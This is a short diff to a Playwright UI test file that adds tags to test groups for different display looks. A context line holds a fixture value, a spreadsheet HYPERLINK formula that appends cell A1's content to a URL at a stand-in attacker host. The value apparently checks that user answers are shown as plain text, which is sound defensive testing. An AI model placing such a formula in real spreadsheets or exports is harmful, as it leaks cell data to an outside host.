@@ -26,8 +26,8 @@ const NAMES = {
   'a formula': '=HYPERLINK("http://evil.example/?"&A1, "Open")',
 };
 
-for (const { name: look, colorScheme, viewport } of LOOKS)
-  test.describe(look, () => {
+for (const { name: look, colorScheme, viewport, tag } of LOOKS)
+  test.describe(look, { tag }, () => {
     test.use({ colorScheme, viewport, locale: 'en-GB', actionTimeout: 20_000 });
 
     test('whatever was answered is shown as text and fits', async ({ page }) => {
